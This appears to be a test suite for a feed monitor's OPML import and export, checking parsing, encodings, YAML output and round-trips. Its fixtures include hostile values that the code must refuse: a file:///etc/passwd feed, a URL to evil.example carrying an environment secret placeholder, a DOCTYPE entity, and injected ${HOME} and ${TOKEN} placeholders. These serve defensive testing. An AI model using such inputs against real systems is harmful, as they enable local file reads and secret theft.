from __future__ import annotations

from xml.etree import ElementTree

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from monitor.errors import UsageError
from monitor.feeds.opml import LARGEST, OpmlFailed, Subscription, Subscriptions, export_opml, import_opml, read_opml

from .made import feed

SAMPLE = """<?xml version="1.0" encoding="utf-8"?>
<opml version="2.0"><head><title>قائمتي</title></head><body>
<outline text="سوريا"><outline text="محلي">
<outline type="rss" text="مرصد &amp; الفرات" xmlUrl="https://furat.example/feed?a=1&amp;b=2"/>
</outline></outline>
<outline type="rss" text="Sahel" xmlUrl=" https://sahel.example/feed " category="/Coast/Ports,daily"/>
<outline text="سوريا"><outline type="rss" title="Sahel" xmlUrl="https://sahel.example/feed"/></outline>
<outline type="rss" text="Local" xmlUrl="file:///etc/passwd"/>
<outline type="rss" text="Thief" xmlUrl="https://evil.example/${DESK_SLACK_URL}"/>
<outline type="rss" xmlUrl="https://nameless.example/"/>
<outline type="link" text="Another list" url="https://lists.example/more.opml"/>
</body></opml>"""


def read(text: str | bytes) -> Subscriptions:
    found = read_opml(text.encode() if isinstance(text, str) else text)
    assert isinstance(found, Subscriptions), found
    return found


def test_feeds_are_read_with_their_folders_as_tags() -> None:
    assert read(SAMPLE).feeds == (
        Subscription(url="https://furat.example/feed?a=1&b=2", title="مرصد & الفرات", tags=("سوريا", "محلي")),
        Subscription(url="https://sahel.example/feed", title="Sahel", tags=("Coast", "Ports", "daily", "سوريا")),
        Subscription(url="https://nameless.example/", title="", tags=()),
    )


def test_what_cannot_be_taken_over_is_told() -> None:
    local, thief = read(SAMPLE).skipped
    assert local.startswith("Local: the address does not begin with http")
    assert thief.startswith("Thief:")
    assert "environment" in thief


@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16"])
def test_other_encodings_are_read(codec: str) -> None:
    assert len(read(SAMPLE.encode(codec)).feeds) == 3


@pytest.mark.parametrize(
    ("data", "detail"),
    [
        (b"", "no OPML"),
        (b"<html><body/></html>", "no OPML"),
        (b"https://lists.example/feeds.opml", "no OPML"),
        (b"/etc/passwd", "no OPML"),
        (b"</outline></opml>", "no OPML"),
        (b"<!DOCTYPE opml [<!ENTITY a 'b'>]><opml version='2.0'/>", "DOCTYPE"),
        (b"<opml version='2.0'><!doctype x></opml>", "DOCTYPE"),
        (b"<opml version='2.0'>" + b" " * LARGEST, "larger"),
    ],
)
def test_what_is_no_plain_opml_is_refused(data: bytes, detail: str) -> None:
    found = read_opml(data)
    assert isinstance(found, OpmlFailed)
    assert detail in found.detail
    with pytest.raises(UsageError, match=detail):
        import_opml(data)


@given(st.binary(max_size=200).map(lambda rest: b"<opml version='2.0'><body>" + rest) | st.binary(max_size=50))
def test_no_bytes_raise(data: bytes) -> None:
    assert isinstance(read_opml(data), Subscriptions | OpmlFailed)


def test_an_import_is_yaml_for_the_rules_file() -> None:
    text = import_opml(SAMPLE.encode())
    assert yaml.safe_load(text) == [
        {"url": "https://furat.example/feed?a=1&b=2", "name": "مرصد & الفرات", "tags": ["سوريا", "محلي"]},
        {"url": "https://sahel.example/feed", "name": "Sahel", "tags": ["Coast", "Ports", "daily", "سوريا"]},
        {"url": "https://nameless.example/"},
    ]
    assert "مرصد & الفرات" in text
    assert text.splitlines()[0].startswith("# left out: Local: ")


def test_a_title_in_an_import_reads_nothing_from_our_environment() -> None:
    text = import_opml(
        b"<opml version='2.0'><body><outline text='${HOME}\n- x' xmlUrl='https://a.example/'/></body></opml>"
    )
    assert yaml.safe_load(text) == [{"url": "https://a.example/", "name": "$ {HOME} - x"}]


def test_an_import_of_nothing_is_nothing() -> None:
    assert import_opml(b"<opml version='2.0'><body/></opml>") == ""


NAMES = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zs", "Zl", "Zp", "Cn"]), min_size=1, max_size=12
)
TAGS = st.frozensets(NAMES.filter(lambda name: not set(name) & set(",/")), max_size=3)


@given(st.lists(st.tuples(NAMES, TAGS), max_size=6))
def test_what_is_exported_comes_back(named: list[tuple[str, frozenset[str]]]) -> None:
    feeds = [
        feed(f"https://a.example/{n}?x=1&y={n}", id=f"f{n}", name=name, tags=tags)
        for n, (name, tags) in enumerate(named)
    ]
    found = read(export_opml(feeds)).feeds
    assert {(each.url, each.title, frozenset(each.tags)) for each in found} == {
        (each.address, each.name, each.tags) for each in feeds
    }


def test_an_export_is_well_formed_and_holds_no_secret() -> None:
    feeds = [
        feed("https://a.example/feed", id="a", name='<A> & "b" \x00', tags=frozenset({"سوريا"})),
        feed("https://b.example/feed?token=sesame", id="b", address="https://b.example/feed?token=${TOKEN}"),
    ]
    data = export_opml(feeds, title="قائمتنا")
    assert b"sesame" not in data
    assert b"TOKEN" not in data
    outlines = ElementTree.fromstring(data).findall(".//outline[@xmlUrl]")
    assert [(outline.get("xmlUrl"), outline.get("text")) for outline in outlines] == [
        ("https://a.example/feed", '<A> & "b" ')
    ]
